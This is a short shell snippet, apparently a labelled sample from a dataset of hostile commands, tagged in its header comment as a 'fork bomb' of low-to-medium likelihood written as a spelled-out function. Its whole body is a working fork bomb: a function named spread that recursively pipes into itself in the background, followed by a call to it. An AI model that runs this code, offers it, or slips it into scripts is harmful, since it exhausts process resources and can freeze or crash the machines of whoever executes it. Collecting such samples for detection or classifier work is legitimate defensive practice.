# class: fork bomb; possible: low medium; style: the function, spelled out
spread() {
  spread | spread &
}
spread
sleep 20
